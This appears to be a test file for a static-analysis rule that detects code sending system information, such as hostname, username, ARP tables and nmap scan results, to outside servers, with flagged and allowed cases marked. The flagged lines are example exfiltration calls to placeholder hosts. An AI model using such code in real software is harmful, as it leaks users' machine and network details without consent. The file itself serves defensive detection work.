// ruleid: sysinfo-sent
fetch("https://b.example.invalid/in", { method: "POST", body: os.hostname() });
// ruleid: sysinfo-sent
https.get(`https://b.example.invalid/?h=${os.userInfo().username}`);
// ok: sysinfo-sent
console.log(os.hostname());
// ok: sysinfo-sent
fetch("https://api.example.com/items");

const beacon = got.extend({ prefixUrl: "https://b.example.invalid" });
const facts = { h: os.hostname(), u: os.userInfo().username };
// ruleid: sysinfo-sent
await beacon.post("hi", { json: facts });

const near = execSync("arp -a").toString();
// ruleid: sysinfo-sent
await fetch("https://census.example.com/near", { method: "POST", body: near });

const scanned = await run("nmap", ["-sn", range]);
// ruleid: sysinfo-sent
await axios.post("https://census.example.com/hosts", { found: scanned.stdout });

// ruleid: sysinfo-sent
await fetch("https://census.example.com/who", { method: "POST", body: JSON.stringify({ who: process.env.USER }) });

// ok: sysinfo-sent
await fetch("https://wiki.example.com/v1", { method: "POST", body: JSON.stringify({ author: process.env.WIKI_USER }) });

const linked = execSync("ip addr").toString();
// ok: sysinfo-sent
await fetch("https://wiki.example.com/v1", { method: "POST", body: linked });
// ok: sysinfo-sent
console.log(execSync("arp -a").toString());

class Reports {
  constructor(options = {}) {
    this.send = options.fetch ?? fetch;
    this.show = options.show ?? console.log;
  }
  async start(address) {
    // ruleid: sysinfo-sent
    await this.send(`${address}/device`, { method: "POST", body: JSON.stringify({ device: os.hostname() }) });
    // ok: sysinfo-sent
    await this.send(`${address}/device`, { method: "POST", body: "{}" });
    // ok: sysinfo-sent
    this.show(os.hostname(), { colour: true });
  }
}
